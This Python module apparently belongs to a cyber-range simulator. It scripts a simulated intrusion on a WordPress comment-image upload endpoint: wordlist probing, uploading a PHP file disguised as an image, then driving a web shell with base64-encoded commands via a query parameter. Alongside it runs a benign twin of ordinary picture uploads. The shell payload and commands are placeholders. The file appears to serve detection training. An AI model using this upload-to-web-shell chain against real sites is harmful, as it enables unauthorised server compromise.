"""A comment plugin takes a script behind a picture's first bytes; it is used by GET alone, in base64.

Twin: visitors send pictures with their comments, and others look at them.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Generator
from random import Random

from range.estate.addresses import resident
from range.estate.content import STANDIN
from range.scenarios.acts import COMMANDS, intruder, probe
from range.scenarios.acts import twin as twin_of
from range.visits.agents import PEOPLE
from range.visits.browser import Browser
from range.visits.steps import Pause, Reply, Step, Visit
from range.visits.wordlists import SECRETS
from range.visits.world import World

NAME = "comment_upload"
SITES: tuple[str, ...] = ("dinas-pertanian",)
TWIN_SITES: tuple[str, ...] = ("dinas-perikanan",)

_HOLE = "/wp-admin/admin-ajax.php"


def intrusion(world: World) -> None:
    """Search with a list of words first, then upload and use, within one hour of the afternoon."""
    _, me, dice = intruder(world, NAME, SITES[0], "entered")
    world.go(SITES[0], world.at(16, 14.2), _break_in(me, dice))


def _break_in(me: Browser, dice: Random) -> Visit:
    yield from probe(me, tuple(dice.sample(SECRETS, k=25)), dice)
    yield from me.read("/2026/03/berita-2/")
    where = yield from _send(me, "foto.php", STANDIN, "upload")
    for _ in range(17):
        yield Pause(dice.uniform(5, 70))
        asked = base64.b64encode(json.dumps([dice.choice(COMMANDS)]).encode()).decode()
        yield from me.get(f"{where}?wp_meta={asked.replace('=', '%3D')}", role="web shell", referrer="")


def _send(me: Browser, name: str, content: bytes, role: str = "") -> Generator[Step, Reply, str]:
    reply = yield from me.upload(_HOLE, "wmu_files", name, content, {"action": "wmuUploadFiles"}, role=role)
    return str(json.loads(reply.body)["data"]["previewsData"]["images"][0]["url"])


def twin(world: World) -> None:
    """Twenty-five comments with pictures, each looked at by a few others."""
    actor, dice = twin_of(world, NAME, TWIN_SITES[0])
    for n in range(25):
        me = world.browser(actor, resident(dice), dice.choice(PEOPLE))
        others = [world.browser(actor, resident(dice), dice.choice(PEOPLE)) for _ in range(3)]
        at = world.at(dice.uniform(10, 20), dice.uniform(8, 21))
        world.go(TWIN_SITES[0], at, _comment(me, others, n, dice.randbytes(30000)))


def _comment(me: Browser, others: list[Browser], n: int, picture: bytes) -> Visit:
    yield from me.read("/2026/03/berita-2/")
    yield Pause(60)
    where = yield from _send(me, f"panen-{n}.jpg", b"\xff\xd8\xff" + picture)
    yield Pause(2)
    yield from me.get(where)
    for other in others:
        yield Pause(4000)
        yield from other.read("/2026/03/berita-2/", images=(where,))
